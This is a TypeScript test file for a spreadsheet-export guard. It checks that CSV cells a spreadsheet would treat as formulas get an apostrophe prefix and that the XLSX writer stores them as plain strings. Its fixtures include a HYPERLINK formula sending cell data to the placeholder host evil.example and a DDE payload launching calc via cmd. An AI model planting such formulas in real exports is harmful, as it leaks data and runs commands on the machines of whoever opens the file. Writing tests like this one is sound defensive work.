// CSV injection: every cell a CSV export writes that a spreadsheet would take for a formula is
// neutralised (an apostrophe in front), a well-formed negative number is left as it is, and the
// XLSX writer puts the same text in a string cell, never a formula.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import { it } from 'node:test';
import { createCsvWriter } from '../../../shared/export/csv.ts';
import { neutraliseFormula } from '../../../shared/export/formula-guard.ts';
import { openSink } from '../../../shared/export/sink.ts';
import type { ExportColumn, ExportRow } from '../../../shared/export/table.ts';
import { createXlsxWriter } from '../../../shared/export/xlsx.ts';
import { tempDir } from './helpers.ts';

const file = tempDir();
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"Подробнее")';

it('puts an apostrophe before text a spreadsheet would run, and leaves the rest alone', () => {
  for (const text of [HYPERLINK, '+7 999 000-00-00', '-1+2', '-2-3', '-1e3', '--5', '-', '@SUM(A1:A9)', '\t=1', '\r=1', '\n=1', '\0x', '+5', "=cmd|' /C calc'!A0"]) {
    assert.equal(neutraliseFormula(text), `'${text}`, JSON.stringify(text));
  }
  for (const text of ['', 'CW-1', 'a=b', ' =1+1', "'=1", '10000001', '2026-11', '2026-11-24 13:00:00', '-1781.33', '-1781,33', '-5', '-0,5']) {
    assert.equal(neutraliseFormula(text), text, JSON.stringify(text));
  }
});

const COLUMNS: readonly ExportColumn[] = [
  { name: 'serial', type: 'text', width: 20 },
  { name: 'provider', type: 'text', width: 12, repeats: true },
  { name: 'amount', type: 'decimal', width: 12 },
  { name: 'zone', type: 'integer', width: 6 },
];
const ROWS: ExportRow[] = [
  [HYPERLINK, '@provider', '-1781.33', -1],
  ['-1+2', '+x', '1500.50', 1],
  ['\t=1', '-', '-0.5', 2],
];

it('the CSV writer neutralises every such cell and keeps negative amounts as numbers', async () => {
  const path = file('guarded.csv');
  const sink = openSink(path);
  const writer = createCsvWriter(sink, COLUMNS, { delimiter: ';', decimal: 'comma', encoding: 'utf-8', bom: false });
  await writer.writeRows(ROWS);
  await writer.finish();
  await sink.close();
  const lines = (await readFile(path, 'utf8')).split('\r\n');
  assert.deepEqual(lines, [
    'serial;provider;amount;zone',
    // The formula holds a ';' and '"': quoted as RFC 4180 says, after the apostrophe.
    `"'=HYPERLINK(""http://evil.example/?""&A1;""Подробнее"")";'@provider;-1781,33;-1`,
    "'-1+2;'+x;1500,50;1",
    "'\t=1;'-;-0,5;2",
    '',
  ]);
});

it('the XLSX writer writes the same text as string cells, with no formula anywhere', async () => {
  const path = file('guarded.xlsx');
  const sink = openSink(path);
  const writer = createXlsxWriter(sink, COLUMNS, { sheetName: 'Лист', now: new Date(Date.UTC(2026, 10, 24)) });
  await writer.writeRows(ROWS);
  await writer.finish();
  await sink.close();
  const sheet = execFileSync('unzip', ['-p', path, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' });
  const shared = execFileSync('unzip', ['-p', path, 'xl/sharedStrings.xml'], { encoding: 'utf8' });
  assert.doesNotMatch(sheet, /<f[ >]/, 'no formula element');
  assert.match(sheet, /<c r="A2" t="inlineStr"><is><t>=HYPERLINK\(&quot;http:\/\/evil\.example\/\?&quot;&amp;A1;&quot;Подробнее&quot;\)<\/t><\/is><\/c>/);
  assert.match(sheet, /<c r="B2" t="s"><v>\d+<\/v><\/c>/, 'a repeated value is a shared string');
  assert.ok(shared.includes('<t>@provider</t>'));
  assert.match(sheet, /<c r="C2" s="\d+"><v>-1781.33<\/v><\/c>/, 'a negative amount stays a number');
});
